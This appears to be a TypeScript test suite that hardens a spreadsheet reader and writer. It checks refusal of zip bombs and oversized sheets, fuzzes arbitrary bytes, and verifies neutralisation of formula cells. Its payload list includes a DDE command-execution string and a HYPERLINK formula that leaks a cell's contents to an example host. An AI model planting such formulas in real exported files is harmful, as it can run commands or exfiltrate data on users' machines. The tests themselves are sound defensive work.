import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { type ZipPart, zipOf } from '../../../../tests/support/exchange/zip.ts'
import { mostColumns, mostRows } from '../limits.ts'
import { neutralised, restored } from './neutralise.ts'
import { readSheet } from './read-sheet.ts'
import { exampleRows, sheetFile } from './sheet-file.ts'
import { writeXlsx } from './xlsx.ts'

const sheetXml = (rows: string) =>
  Buffer.from(`<?xml version="1.0"?><worksheet><sheetData>${rows}</sheetData></worksheet>`)
const sheetPart = (rows: string): ZipPart => ({ name: 'xl/worksheets/sheet1.xml', data: sheetXml(rows) })
const refusal = (bytes: Buffer) =>
  readSheet(bytes).then(
    () => 'taken',
    error => (error?.code === 'bad-request' ? String(error.message) : `crash: ${error}`),
  )

describe('a file that means harm', () => {
  it('is refused before it is unpacked or filled up', async () => {
    const bombs: [string, Buffer][] = [
      [
        'two hundred megabytes of nothing',
        zipOf([{ name: 'xl/worksheets/sheet1.xml', data: Buffer.alloc(200e6) }]),
      ],
      [
        'a lie about its size',
        zipOf([{ name: 'xl/sharedStrings.xml', data: Buffer.alloc(50e6), claimed: 1_000 }]),
      ],
      [
        'a claim of four gigabytes',
        zipOf([{ name: 'xl/sharedStrings.xml', data: Buffer.alloc(10), claimed: 0xffffffff }]),
      ],
      ['a cell in the last row', zipOf([sheetPart('<row r="1048576"><c r="A1048576"><v>1</v></c></row>')])],
      ['a cell in the last column', zipOf([sheetPart('<row r="1"><c r="XFD1"><v>1</v></c></row>')])],
      ['a row that no sheet has', zipOf([sheetPart('<row r="99999999999"></row>')])],
      ['an address hidden in an entity', zipOf([sheetPart('<row r="&#57;999999"></row>')])],
      [
        'a thousand parts',
        zipOf(Array.from({ length: 1_000 }, (_, at) => ({ name: `p${at}`, data: Buffer.alloc(1) }))),
      ],
      ['no spreadsheet at all', zipOf([{ name: 'hello.txt', data: Buffer.from('hello') }])],
      ['the beginning of one', zipOf([sheetPart('')]).subarray(0, 40)],
    ]
    const before = process.memoryUsage().rss
    for (const [what, bytes] of bombs) {
      const answer = await refusal(bytes)
      expect(answer, what).not.toMatch(/^(taken|crash)/)
    }
    // The two hundred megabytes are this test's own.
    expect(process.memoryUsage().rss - before).toBeLessThan(320e6)
  })

  it('of any bytes is refused or read, and never crashes', async () => {
    const real = Buffer.from((await sheetFile('x', 'xlsx', exampleRows)).content, 'base64')
    let refused = 0
    const readable = async (bytes: Uint8Array) => {
      const answer = await refusal(Buffer.from(bytes))
      if (answer !== 'taken') refused++
      expect(answer).not.toMatch(/^crash/)
    }
    await fc.assert(fc.asyncProperty(fc.uint8Array({ maxLength: 600 }), readable), { numRuns: 400 })
    const text = fc.string({ unit: 'binary', maxLength: 400 }).map(each => new TextEncoder().encode(each))
    await fc.assert(fc.asyncProperty(text, readable), { numRuns: 400 })
    const broken = fc
      .array(fc.tuple(fc.nat(real.length - 1), fc.nat(255)), { minLength: 1, maxLength: 8 })
      .map(edits => {
        const copy = Buffer.from(real)
        for (const [at, byte] of edits) copy[at] = byte
        return copy
      })
    await fc.assert(fc.asyncProperty(broken, readable), { numRuns: 400 })
    expect(refused).toBeGreaterThan(300)
  })
})

describe('bounds', () => {
  it('hold for rows, columns and cells, and say where', async () => {
    const rows = (count: number) => Buffer.from(`name\n${'a\n'.repeat(count)}`)
    expect((await readSheet(rows(mostRows))).rows).toHaveLength(mostRows)
    expect(await refusal(rows(mostRows + 1))).toContain('At most 20000 rows')
    expect(await refusal(Buffer.from(`${'a,'.repeat(mostColumns)}a\n1\n`))).toContain('60 columns')
    expect(await refusal(Buffer.from(`name\nfine\n${'x'.repeat(1_001)}\n`))).toContain('Row 3, column 1')
    expect(await refusal(Buffer.from('\n \n'))).toBe('The file is empty.')
    expect(await refusal(Buffer.from([0xd0, 0xcf, 0x11, 0xe0]))).toContain('old or protected Excel')
  })

  it('blank rows keep the others’ numbers', async () => {
    const { rows } = await readSheet(Buffer.from('\nname\n\nAda\n\n\nBo\n'))
    expect(rows).toEqual([
      { n: 4, c: ['Ada'] },
      { n: 7, c: ['Bo'] },
    ])
  })
})

const payloads = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '=HYPERLINK("http://example.org/?"&A1)',
]

describe('a cell that is a formula', () => {
  it.each(payloads)('%j is written as text and read back as it was', async payload => {
    expect(neutralised(payload)).toBe(`'${payload}`)
    expect(restored(neutralised(payload))).toBe(payload)
    const { content } = await sheetFile('x', 'csv', [{ fullName: payload }])
    const [, line = ''] = Buffer.from(content, 'base64').toString().split('\r\n')
    expect(line).toMatch(/^"?'/)
    const { rows } = await readSheet(await writeXlsx([['Full name'], [neutralised(payload)]], [10]))
    expect(rows[0]?.c[0]).toBe(payload)
  })

  it('leaves ordinary texts alone', () => {
    for (const text of ['Ada', 'a-b', "O'Neil", '5', '']) expect(neutralised(text)).toBe(text)
  })

  it('comes back as it was whatever it is, apostrophes of its own too', () => {
    const signs = fc.string({
      unit: fc.constantFrom("'", '=', '+', '-', '@', ' ', '\t', 'a', '1', '\uff1d'),
      maxLength: 8,
    })
    fc.assert(
      fc.property(fc.oneof(signs, fc.string({ unit: 'grapheme' })), text => {
        const written = neutralised(text)
        expect(restored(written)).toBe(text)
        // A spreadsheet never sees a formula at the beginning.
        expect(/^\s*[=+\-@\uff1d\uff0b\uff0d\uff20]/.test(written)).toBe(false)
      }),
      { numRuns: 1_000 },
    )
  })
})
